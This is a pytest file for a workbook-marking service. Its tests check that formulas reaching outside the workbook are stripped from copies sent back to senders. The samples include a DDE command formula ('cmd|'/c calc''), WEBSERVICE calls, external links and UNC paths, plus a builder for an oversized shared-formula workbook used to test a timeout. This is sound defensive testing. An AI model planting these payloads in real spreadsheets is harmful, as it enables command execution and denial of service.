"""What a sender's workbook would do when it is opened is not passed on in a copy that goes out under our name."""

from __future__ import annotations

import io
import time
import zipfile
from pathlib import Path

import openpyxl
import pytest
from openpyxl.formatting.rule import FormulaRule
from openpyxl.styles import PatternFill
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation
from test_marking import FORM, SHEET, findings, marked, opened, saved, workbook

from schemas.form.loading import load_form
from workbooks.marked.inert import is_inert
from workbooks.marked.marking import mark_return
from workbooks.marked.marking_apart import MarkingProcess
from workbooks.template.template_order import TemplateOrder
from workbooks.template.template_workbook import write_template

THRESHOLDS = {"relative": 0.05, "absolute": 10.0, "fall": 100.0, "twofold": 2.0}


@pytest.mark.parametrize(
    "formula",
    ["=SUM(A1:A9)", '=IF(A1>2,ROUND(B1/C1,1),"a|b [1] http://x")', "=_xlfn.CONCAT(A1,B1)", "='Есеп 2'!A1+$B$2", "=A1"],
)
def test_arithmetic_over_the_own_workbook_is_kept(formula: str) -> None:
    assert is_inert(formula)


@pytest.mark.parametrize(
    "formula",
    ["=cmd|'/c calc'!A1", "=WEBSERVICE(\"http://x\"&A1)", "=HYPERLINK(\"http://x\",\"ашу\")", "=[1]Sheet!A1",
     "='C:\\x\\[a.xlsx]S'!A1", "=INDIRECT(\"A1\")", "=CALL(\"x\")", "=if(1,webservice(A1),2)", "=\\\\host\\a!A1"],
)  # fmt: skip
def test_what_reaches_outside_is_not(formula: str) -> None:
    assert not is_inert(formula)


@pytest.mark.parametrize("name", ["membership", "health", "schools"])
def test_our_own_template_comes_back_as_it_went_out(name: str, tmp_path: Path) -> None:
    form = load_form(name)
    path = tmp_path / "form.xlsx"
    write_template(path, TemplateOrder("orda", "Орда", "Орда", "kk", "regional", {}, ""), form, THRESHOLDS)
    copy = mark_return(path.read_bytes(), path.name, findings(), "kk", form)
    assert not copy.lost
    before, after = openpyxl.load_workbook(path), opened(copy)
    for sheet in before.worksheets:
        formulas = {x.coordinate: x.value for row in sheet.iter_rows() for x in row if x.data_type == "f"}
        assert {x: after[sheet.title][x].value for x in formulas} == formulas


def _with_stored_values(data: bytes, values: dict[str, str]) -> bytes:
    """The workbook with values beside formulas, as Excel leaves them."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as before, zipfile.ZipFile(out, "w") as after:
        for name in before.namelist():
            part = before.read(name)
            if name.startswith("xl/worksheets/"):
                for cell, value in values.items():
                    head, found, tail = part.partition(f'<c r="{cell}"'.encode())
                    part = (
                        head
                        + found
                        + tail.replace(b"<v></v>", f"<v>{value}</v>".encode(), 1).replace(
                            b"<v/>", f"<v>{value}</v>".encode(), 1
                        )
                    )
            after.writestr(name, part)
    return out.getvalue()


def test_nothing_that_acts_is_in_the_copy_and_the_letter_is_told() -> None:
    book = workbook()
    sheet = book[SHEET]
    sheet["C3"], sheet["C4"], sheet["C5"] = "=cmd|'/c calc'!A1", "=SUM(A1:B2)", '=WEBSERVICE("http://x.invalid")'
    sheet["D3"].hyperlink = "http://x.invalid/login"
    sheet["D3"].value = "жеке кабинет"
    book.defined_names["far"] = DefinedName("far", attr_text="[1]Sheet!$A$1")
    book.defined_names["near"] = DefinedName("near", attr_text=f"'{SHEET}'!$A$1")
    rule = DataValidation(type="custom", formula1='WEBSERVICE("http://x.invalid")>0')
    rule.add("E2")
    sheet.add_data_validation(rule)
    red = PatternFill("solid", fgColor="FFFF0000")
    sheet.conditional_formatting.add("A1:A3", FormulaRule(formula=['WEBSERVICE("http://x.invalid")>0'], fill=red))
    sheet.conditional_formatting.add("B1:B3", FormulaRule(formula=["B1>2"], fill=red))
    copy = marked(_with_stored_values(saved(book), {"C3": "17"}), findings({"message": "Қате бар"}), language="ru")
    with zipfile.ZipFile(io.BytesIO(copy.data)) as package:
        whole = b"".join(package.read(name) for name in package.namelist())
    assert b"cmd|" not in whole.replace(b"&apos;", b"'") or b"<f>cmd" not in whole
    assert b"x.invalid" not in whole.replace(b'=WEBSERVICE("http://x.invalid")', b"")
    result = opened(copy)
    kept = result[SHEET]
    assert (kept["C3"].value, kept["C4"].value) == (17, "=SUM(A1:B2)")
    assert kept["C5"].data_type == "s"
    assert kept["D3"].hyperlink is None
    assert kept["D3"].value == "жеке кабинет"
    assert list(result.defined_names) == ["near"]
    assert not kept.data_validations.dataValidation
    assert [str(x.sqref) for x in kept.conditional_formatting] == ["B1:B3"]
    assert result.worksheets[0].cell(5, 3).hyperlink is not None, "our own link to the cell stands"
    assert any("обращаются наружу" in x for x in copy.lost)


def _amplified() -> bytes:
    """A small file whose shared formula is long and stands for thousands of cells."""
    long = "+".join(["A1"] * 2_600)
    rows = f'<row r="100"><c r="K100"><f t="shared" ref="K100:K9000" si="0">{long}</f><v>1</v></c></row>'
    rows += "".join(f'<row r="{r}"><c r="K{r}"><f t="shared" si="0"/><v>1</v></c></row>' for r in range(101, 9_000))
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(saved(workbook()))) as before,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as after,
    ):
        for name in before.namelist():
            part = before.read(name)
            if name.startswith("xl/worksheets/"):
                part = part.replace(b"</sheetData>", rows.encode() + b"</sheetData>")
            after.writestr(name, part)
    return out.getvalue()


def test_a_workbook_that_holds_the_marking_up_is_copied_by_its_values_in_time() -> None:
    begun = time.monotonic()
    with MarkingProcess(FORM, seconds=4.0) as process:
        copy = process.mark(_amplified(), "есеп.xlsx", findings({"message": "Қате бар"}), "kk")
        again = process.mark(saved(workbook()), "есеп.xlsx", findings({"message": "Қате бар"}), "kk")
    assert time.monotonic() - begun < 40
    assert any("мәндер" in x for x in copy.lost)
    assert opened(copy).worksheets[0]["E5"].value == "Қате бар"
    assert again.lost == ()


def test_it_marks_as_marking_here_does() -> None:
    source, rows = saved(workbook()), findings({"message": "Қате бар"})
    with MarkingProcess(FORM) as process:
        apart = process.mark(source, "есеп.xlsx", rows, "kk")
    here = openpyxl.load_workbook(io.BytesIO(marked(source, rows).data))
    other = openpyxl.load_workbook(io.BytesIO(apart.data))
    assert [[c.value for c in row] for row in other[SHEET].rows] == [[c.value for c in row] for row in here[SHEET].rows]
